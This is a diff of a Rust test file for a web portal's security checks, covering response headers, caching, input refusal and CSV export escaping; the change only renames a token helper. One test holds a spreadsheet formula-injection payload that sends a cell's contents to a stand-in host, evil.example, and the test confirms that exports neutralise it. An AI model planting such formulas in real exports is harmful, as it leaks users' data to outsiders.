@@ -5,7 +5,6 @@
 //! body that only looks like JSON is refused; a forged search cursor is refused; a formula
 //! written into an entry comes back from the spreadsheet export as text.
 
-use std::path::Path;
 
 use reqwest::StatusCode;
 use reqwest::header::HeaderMap;
@@ -13,20 +12,10 @@ use serde_json::{Value, json};
 
 use crate::people::{DEMO_PASSWORD, browser_client, sign_in};
 use crate::portal::{Driver, browser};
-use crate::server::{Server, mulu};
+use crate::server::{Server, person_token};
 
 const POLICY: &str = "default-src 'self'; object-src 'none'; frame-ancestors 'none'; \
                       base-uri 'self'; form-action 'self'";
-
-/// A token for a demo person in one of their roles.
-fn demo_token(d: &Path, account: &str, role: &str) -> String {
-    mulu(
-        d,
-        &[
-            "token", "create", "--user", account, "--role", role, "--name", "hygiene",
-        ],
-    )
-}
 
 fn header<'a>(h: &'a HeaderMap, name: &str) -> &'a str {
     h.get(name)
@@ -91,7 +80,7 @@ async fn security_headers_on_portal_api_workbench_and_docs() {
     );
 
     // Anything answering a token is private, refusals included.
-    let token = demo_token(dir.path(), "tianbao", "provider");
+    let token = person_token(dir.path(), "tianbao", "provider");
     for (path, bearer) in [
         ("/api/v1/workspace/resources?limit=1", token.as_str()),
         ("/api/v1/resources?limit=1", token.as_str()),
@@ -178,7 +167,7 @@ async fn security_headers_on_portal_api_workbench_and_docs() {
 async fn an_unregistered_products_sample_is_never_cached() {
     let dir = tempfile::tempdir().unwrap();
     let server = Server::start_demo(dir.path());
-    let operator = demo_token(dir.path(), "yunying", "operator");
+    let operator = person_token(dir.path(), "yunying", "operator");
     let http = reqwest::Client::new();
 
     // A second product under the demo's authorization, from the registered one's sources.
@@ -325,7 +314,7 @@ async fn links_use_the_public_url_whatever_the_host_header() {
 async fn control_characters_oversized_lists_and_json_lookalikes_are_refused() {
     let dir = tempfile::tempdir().unwrap();
     let server = Server::start_demo(dir.path());
-    let provider = demo_token(dir.path(), "tianbao", "provider");
+    let provider = person_token(dir.path(), "tianbao", "provider");
     let http = reqwest::Client::new();
     let entry = |name: &str| {
         json!({"content": {
@@ -509,7 +498,7 @@ async fn spreadsheet_exports_write_formulas_as_text() {
 
     let dir = tempfile::tempdir().unwrap();
     let server = Server::start_demo(dir.path());
-    let provider = demo_token(dir.path(), "tianbao", "provider");
+    let provider = person_token(dir.path(), "tianbao", "provider");
     let http = reqwest::Client::new();
     let attack = r#"=HYPERLINK("http://evil.example/?leak="&A2,"点击查看")"#;
     let created = http
@@ -577,7 +566,7 @@ async fn spreadsheet_exports_write_formulas_as_text() {
     }
 
     // Other people never see the provider's drafts in an export.
-    let operator = demo_token(dir.path(), "yunying", "operator");
+    let operator = person_token(dir.path(), "yunying", "operator");
     let r = http
         .get(server.url("/api/v1/workspace/exports/directory.csv"))
         .bearer_auth(&operator)
